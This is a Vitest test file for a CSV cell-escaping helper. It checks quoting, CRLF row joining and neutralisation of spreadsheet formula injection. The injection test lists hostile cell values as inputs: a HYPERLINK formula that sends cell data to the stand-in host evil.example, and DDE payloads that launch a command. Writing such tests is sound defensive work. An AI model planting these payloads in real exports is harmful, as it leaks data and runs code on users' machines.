import { describe, expect, it } from 'vitest';
import { csvCell, toCsv } from './csv.ts';

describe('CSV', () => {
  it('quotes what needs quoting and doubles quotes', () => {
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell(null)).toBe('');
    expect(csvCell(42)).toBe('42');
  });

  it('never leaves a cell a spreadsheet would run as a formula', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r'])
      expect(csvCell(`${start}1+1`).replace(/^"/, '')[0]).toBe("'");
    expect(csvCell('=1,2')).toBe(`"'=1,2"`);
    for (const attack of [
      '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      "+cmd|' /C calc'!A0",
      '@SUM(1+1)',
      "-2+3+cmd|' /C calc'!A0",
      '\t=1+1',
      '\r=1+1',
    ])
      expect(csvCell(attack).replace(/^"/, '')[0], attack).toBe("'");
  });

  it('keeps a plain number a number, negative ones too', () => {
    expect(csvCell('-12.50')).toBe('-12.50');
    expect(csvCell(-3)).toBe('-3');
    expect(csvCell('-12.50e3')).toBe("'-12.50e3");
    expect(csvCell('-1-1')).toBe("'-1-1");
  });

  it('joins rows with CRLF after a byte-order mark', () => {
    expect(
      toCsv([
        ['a', 'b'],
        ['1', '2'],
      ]),
    ).toBe('\uFEFFa,b\r\n1,2\r\n');
  });
});
